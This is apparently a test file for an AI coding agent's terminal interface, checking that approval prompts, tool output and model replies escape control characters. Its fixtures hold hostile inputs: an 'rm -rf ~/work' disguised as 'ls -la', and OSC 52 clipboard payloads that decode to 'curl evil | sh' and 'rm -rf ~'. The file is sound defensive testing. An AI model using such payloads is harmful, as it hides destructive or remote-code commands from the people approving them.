/** What the terminal shows: approval questions, tool results and replies with escape sequences written out. */
import { describe, expect, it } from 'vitest';
import { PassThrough } from 'node:stream';
import { createTerminalApproval } from '../src/cli/setup/terminal-approval.js';
import { approvalLines } from '../src/cli/tui/approval-prompt.js';
import { createTheme } from '../src/cli/display/theme.js';
import { createTextRenderer } from '../src/cli/commands/run/render-text.js';
import { toolLines } from '../src/cli/tui/tool-line.js';
import { TurnView } from '../src/cli/tui/turn-view.js';


describe('approval questions show what will run', () => {
  // Shown as `ls -la` by a terminal: the carriage return and erase-line hide the real command.
  const spoof = 'rm -rf ~/work #\r\x1b[2Kls -la';
  const request = { call: { id: '1', name: 'bash', arguments: '{}' }, tool: 'bash', summary: spoof, detail: 'x\u202eexe.txt', always: 'bash(rm*)' };

  it('in the one-shot terminal prompt, control characters and bidi overrides are written out', async () => {
    const input = new PassThrough();
    const output = new PassThrough();
    let shown = '';
    output.on('data', (chunk: Buffer) => (shown += chunk.toString()));
    const answer = createTerminalApproval({ input, output, color: false })(request, new AbortController().signal);
    while (!shown.includes('Allow?')) await new Promise((resolve) => output.once('data', resolve));
    input.write('n\n');
    expect(await answer).toBe('no');
    expect(shown).toContain('rm -rf ~/work #\\r\\e[2Kls -la');
    expect(shown).toContain('x\\u{202e}exe.txt');
    expect(shown).not.toMatch(/[\r\x1b\u202e]/);
  });

  it('in the interactive prompt too, and a multi-line command is shown on its own lines', () => {
    const lines = approvalLines({ ...request, summary: `${spoof}\necho done` }, createTheme(false), 10);
    expect(lines[0]).toBe('? Allow bash? rm -rf ~/work #\\r\\e[2Kls -la');
    expect(lines[1]).toBe('  echo done');
    expect(lines.join('\n')).not.toMatch(/[\r\x1b\u202e]/);
  });
});

describe('tool results on the terminal', () => {
  // A file in a cloned repository: an OSC 52 sequence would put a command into the clipboard.
  const output = 'line one\r\n\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07hidden\x1b[2J';

  it('the one-shot renderer and the interactive tool line write escape sequences out, never send them', () => {
    const info = new PassThrough();
    let shown = '';
    info.on('data', (chunk: Buffer) => (shown += chunk.toString()));
    const render = createTextRenderer({ out: new PassThrough(), info, color: false });
    render({ type: 'tool_call_end', turn: 1, id: 'c', name: 'read_file', status: 'ok', isError: false, output, durationMs: 1 });
    expect(shown).toContain('\\e]52;c;Y3VybCBldmlsIHwgc2g=\\u{0007}hidden\\e[2J');
    expect(shown).not.toMatch(/[\x07\x1b\r]/);
    const lines = toolLines({ call: { id: 'c', name: 'read_file', arguments: '{}' }, startedAt: 0, end: { status: 'ok', output, durationMs: 1 } }, 1, createTheme(false));
    expect(lines.join('\n')).toContain('\\e]52;c;');
    expect(lines.join('\n')).not.toMatch(/[\x07\x1b\r]/);
  });
});

describe("the model's reply on the terminal", () => {
  const reply = 'Done.\x1b]52;c;cm0gLXJmIH4=\x07 \u202eok\n';

  it('the interactive view and a one-shot run on a terminal write escapes out; piped output keeps the bytes', () => {
    const committed: string[] = [];
    const view = new TurnView((lines) => committed.push(...lines), createTheme(false));
    view.handle({ type: 'text_delta', turn: 1, text: reply });
    view.handle({ type: 'assistant_message', turn: 1, message: { role: 'assistant', content: reply, toolCalls: [] }, finishReason: 'stop' });
    expect(committed.join('\n')).toContain('Done.\\e]52;c;');
    expect(committed.join('\n')).not.toMatch(/[\x07\x1b\u202e]/);

    for (const isTTY of [true, false]) {
      const out = Object.assign(new PassThrough(), { isTTY });
      let written = '';
      out.on('data', (chunk: Buffer) => (written += chunk.toString()));
      createTextRenderer({ out, info: new PassThrough(), color: false })({ type: 'text_delta', turn: 1, text: reply });
      if (isTTY) expect(written).toBe('Done.\\e]52;c;cm0gLXJmIH4=\\u{0007} \\u{202e}ok\n');
      else expect(written).toBe(reply);
    }
  });
});

describe('errors and hand-offs on the terminal', () => {
  it('a provider error body and a hand-off with escape sequences are written out', () => {
    const info = new PassThrough();
    const out = Object.assign(new PassThrough(), { isTTY: true });
    let shown = '';
    for (const stream of [info, out]) stream.on('data', (chunk: Buffer) => (shown += chunk.toString()));
    const render = createTextRenderer({ out, info, color: false });
    render({ type: 'handoff', text: 'Half done.\x1b[2J' });
    render({ type: 'stop', reason: 'provider_error', answer: null, turns: 1, usage: { inputTokens: 0, outputTokens: 0, cachedInputTokens: 0, cacheWriteTokens: 0, reasoningTokens: 0 }, error: 'HTTP 500: \x1b]52;c;eA==\x07' });
    expect(shown).toContain('Half done.\\e[2J');
    expect(shown).toContain('HTTP 500: \\e]52;c;eA==\\u{0007}');
    expect(shown).not.toMatch(/[\x07\x1b]/);

    const committed: string[] = [];
    const view = new TurnView((lines) => committed.push(...lines), createTheme(false));
    view.handle({ type: 'handoff', text: 'Half done.\x1b[2J' });
    view.handle({ type: 'stop', reason: 'provider_error', answer: null, turns: 1, usage: { inputTokens: 0, outputTokens: 0, cachedInputTokens: 0, cacheWriteTokens: 0, reasoningTokens: 0 }, error: 'HTTP 500: \x1b]52;c;eA==\x07' });
    expect(committed.join('\n')).toContain('HTTP 500: \\e]52;c;eA==');
    expect(committed.join('\n')).toContain('Half done.\\e[2J');
    expect(committed.join('\n')).not.toMatch(/[\x07\x1b]/);
  });
});
